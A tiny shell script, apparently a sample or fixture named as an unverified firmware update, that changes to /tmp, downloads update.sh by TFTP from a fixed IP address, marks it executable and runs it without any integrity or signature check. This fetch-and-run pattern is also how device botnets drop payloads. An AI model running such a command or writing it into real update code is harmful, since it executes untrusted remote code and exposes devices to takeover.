#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-or-later
# fw.unverified-update in shell text.
cd /tmp || exit 1
tftp -g -r update.sh 198.51.100.41
chmod +x update.sh
./update.sh
